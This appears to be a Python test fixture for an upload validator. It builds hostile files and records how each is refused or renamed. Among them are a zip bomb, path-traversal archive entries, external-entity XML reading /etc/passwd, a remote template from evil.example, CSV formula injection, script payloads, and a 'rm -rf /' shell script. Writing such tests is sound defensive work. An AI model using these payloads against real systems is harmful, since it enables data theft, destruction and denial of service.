"""Files as nobody should send them, and what becomes of each: the code of its refusal, or how it is taken."""

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping
from dataclasses import dataclass

TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
BODY = '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int = 2, height: int = 2, extra: bytes = b"") -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    rows = b"".join(b"\0" + b"\x10\x20\x30" * 2 for _row in range(2))
    return b"\x89PNG\r\n\x1a\n" + head + extra + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def exif_with_place() -> bytes:
    """Return a TIFF directory with one tag, which points to where the picture was taken."""
    return (
        b"II*\0"
        + struct.pack("<I", 8)
        + struct.pack("<H", 1)
        + struct.pack("<HHII", 0x8825, 4, 1, 26)
        + b"\0" * 8
    )


def jpeg(exif: bytes = b"", width: int = 4, height: int = 4) -> bytes:
    segment = b"\xff\xe1" + struct.pack(">H", len(exif) + 8) + b"Exif\0\0" + exif if exif else b""
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\0"
    scan = b"\xff\xda" + struct.pack(">H", 8) + b"\x01\x01\0\0\x3f\0" + b"\x55" * 20
    return b"\xff\xd8" + segment + frame + scan + b"\xff\xd9"


GIF = b"GIF89a" + struct.pack("<HH", 2, 2) + b"\0\0\0" + b"\x2c" + b"\0" * 9 + b"\x02\x00;"


def docx(**more: bytes | str) -> bytes:
    """Return a small text of Word with further parts; double underscores in names are slashes, single ones dots."""
    parts: dict[str, bytes | str] = {"[Content_Types].xml": TYPES, "word/document.xml": BODY}
    parts |= {name.replace("__", "/").replace("_", "."): content for name, content in more.items()}
    return packed(parts)


def packed(parts: Mapping[str, bytes | str], *, level: int = 6) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def odt(kind: str = "application/vnd.oasis.opendocument.text", **more: str) -> bytes:
    return packed({"mimetype": kind, "content.xml": "<?xml version='1.0'?><office/>", **more})


def bomb() -> bytes:
    """Return a text of Word that unpacks to a thousand times its size."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("word/document.xml", BODY)
        with archive.open("word/media/image1.bin", "w") as part:
            block = b" " * 1_000_000
            for _block in range(20):
                part.write(block)
    return out.getvalue()


def crowd() -> bytes:
    """Return an archive that names three thousand parts."""
    return packed({f"word/{number}.txt": "" for number in range(3000)} | {"[Content_Types].xml": TYPES})


def lying() -> bytes:
    """Return an archive whose directory understates what a part unpacks to."""
    whole = packed({"[Content_Types].xml": TYPES, "word/document.xml": BODY + " " * 5000})
    place = whole.rindex(b"PK\x01\x02") + 24
    return whole[:place] + struct.pack("<I", 100) + whole[place + 4 :]


def locked() -> bytes:
    """Return an archive that says that its parts are encrypted."""
    whole = bytearray(docx())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = whole.find(mark)
        while place >= 0:
            whole[place + offset] |= 1
            place = whole.find(mark, place + 4)
    return bytes(whole)


LAUGHS = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'
REMOTE = (
    '<?xml version="1.0"?><Relationships><Relationship Type="http://x/attachedTemplate" '
    'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
OLD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
RUNS = PDF.replace(b"/Catalog", b"/Catalog /OpenAction << /S /J#61vaScript >>")
TABLE = b"name,sum\n=cmd|' /C calc'!A0,1\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>alert(document.cookie)</script>"


@dataclass(frozen=True)
class Hostile:
    """A file, and the code of its refusal; where it is taken, the name it gets and what is told of it."""

    what: str
    name: str
    content: bytes
    code: str = ""
    kept_as: str = ""
    told: tuple[str, ...] = ()


REFUSED = (
    Hostile("an empty file", "plan.pdf", b"", "empty"),
    Hostile("a drawing with a script", "logo.svg", SVG, "kind"),
    Hostile("a web page", "page.html", HTML, "kind"),
    Hostile("a web page called a text", "page.txt", HTML, "content"),
    Hostile("a drawing called a picture", "logo.png", SVG, "content"),
    Hostile("a drawing behind a comment, called Markdown", "x.md", b"<!-- hello -->\n" + SVG, "content"),
    Hostile("a program", "setup.exe", b"MZ\x90\0", "kind"),
    Hostile("a program called a PDF", "setup.pdf", b"MZ\x90\0" + PDF, "content"),
    Hostile("a double ending", "report.pdf.exe", PDF, "kind"),
    Hostile("a turned ending", "report\u202efdp.exe", PDF, "kind"),
    Hostile("a shell script called a text", "notes.txt", b"#!/bin/sh\nrm -rf /\n", "content"),
    Hostile("an archive", "all.zip", docx(), "kind"),
    Hostile("an archive called a text of Word", "all.docx", packed({"a.txt": "x"}), "content"),
    Hostile("a bomb", "bomb.docx", bomb(), "bomb"),
    Hostile("three thousand parts", "crowd.docx", crowd(), "bomb"),
    Hostile("a directory that lies", "lying.docx", lying(), "damaged"),
    Hostile("archives in archives", "nest.docx", docx(word__embeddings__a_docx=docx(word__b_docx=docx())), "nested"),
    Hostile("a part outside of itself", "slip.docx", packed({"[Content_Types].xml": TYPES, "word/document.xml": BODY,
                                                            "../../evil.txt": "x"}), "path"),
    Hostile("an absolute part", "root.docx", packed({"[Content_Types].xml": TYPES, "word/document.xml": BODY,
                                                    "/etc/passwd": "x"}), "path"),
    Hostile("entities that grow", "laughs.docx", docx(word__styles_xml=LAUGHS), "entities"),
    Hostile("an entity from outside", "outside.xlsx",
            packed({"[Content_Types].xml": TYPES, "xl/workbook.xml": OUTSIDE}), "entities"),
    Hostile("macros by their ending", "sheet.xlsm", docx(), "kind"),
    Hostile("macros in a file that denies them", "text.docx", docx(word__vbaProject_bin=b"x"), "macros"),
    Hostile("macros in an OpenDocument text", "text.odt", odt(**{"Basic/Standard/Module1.xml": "<x/>"}), "macros"),
    Hostile("a template from elsewhere", "letter.docx", docx(word___rels__settings_xml_rels=REMOTE), "remote"),
    Hostile("a program inside", "inside.docx", docx(word__media__a_bin=b"MZ\x90\0 program"), "program"),
    Hostile("a password", "locked.docx", locked(), "locked"),
    Hostile("an old Office file", "old.doc", OLD, "kind"),
    Hostile("an old Office file called a new one", "old.docx", OLD, "content"),
    Hostile("a picture that is an archive too", "two.png", png() + docx(), "polyglot"),
    Hostile("a picture that is a page too", "two.gif", GIF[:-1] + b"<script>alert(1)</script>;", "polyglot"),
    Hostile("a PDF that is an archive too", "two.pdf", PDF + docx(), "polyglot"),
    Hostile("a picture that is a PDF too", "two.jpg", b"\xff\xd8\xff\xfe\x00\x10" + PDF + b"\xff\xd9", "polyglot"),
    Hostile("a flood of pixels", "flood.png", png(60_000, 60_000), "pixels"),
    Hostile("half a picture", "half.png", png()[:-20], "damaged"),
    Hostile("half a PDF", "half.pdf", PDF[:-8], "damaged"),
    Hostile("a PDF that runs", "run.pdf", RUNS, "active"),
    Hostile("a PDF that starts programs", "go.pdf", PDF.replace(b"/Catalog", b"/Catalog /S /Launch"), "active"),
    Hostile("zero bytes in a text", "nul.txt", b"one\0two", "content"),
    Hostile("a text in another encoding", "latin.txt", "Mühe".encode("latin-1"), "encoding"),
    Hostile("no ending", "README", b"words", "ending"),
    Hostile("a kind that nobody knows", "plan.xyz", b"words", "kind"),
)  # fmt: skip

TAKEN = (
    Hostile("a path in the name", "../../etc/passwd.pdf", PDF, kept_as="passwd.pdf"),
    Hostile("a path of Windows", "C:\\Windows\\system32\\plan.pdf", PDF, kept_as="plan.pdf"),
    Hostile("a zero byte in the name", "pl\0an.pdf", PDF, kept_as="plan.pdf"),
    Hostile("a turned name with an honest ending", "a\u202egpj.png", png(), kept_as="agpj.png"),
    Hostile("a reserved name", "CON.pdf", PDF, kept_as="_CON.pdf"),
    Hostile("a reserved name behind points", "nul.tar.pdf", PDF, kept_as="_nul.tar.pdf"),
    Hostile("a program's ending inside", "report.exe.pdf", PDF, kept_as="report_exe.pdf"),
    Hostile("points and blanks at the ends", " ..hidden.pdf. ", PDF, kept_as="hidden.pdf"),
    Hostile("quotes and line breaks", 'a"b\r\nSet-Cookie: x.pdf', PDF, kept_as="a_bSet-Cookie_ x.pdf"),
    Hostile("a very long name", "x" * 700 + ".pdf", PDF, kept_as="x" * 116 + ".pdf"),
    Hostile("a script in Markdown", "notes.md", b"# Hi\n<script>alert(1)</script>\n", kept_as="notes.md"),
    Hostile("formulas in a table", "list.csv", TABLE, kept_as="list.csv", told=("formulas",)),
    Hostile("writing that turns", "code.txt", "if admin\u202e then\n".encode(), kept_as="code.txt", told=("turned",)),
    Hostile("a picture that says where", "site.jpg", jpeg(exif_with_place()), kept_as="site.jpg", told=("location",)),
    Hostile("a PNG that says where", "site.png", png(extra=chunk(b"eXIf", exif_with_place())), kept_as="site.png",
            told=("location",)),
)  # fmt: skip
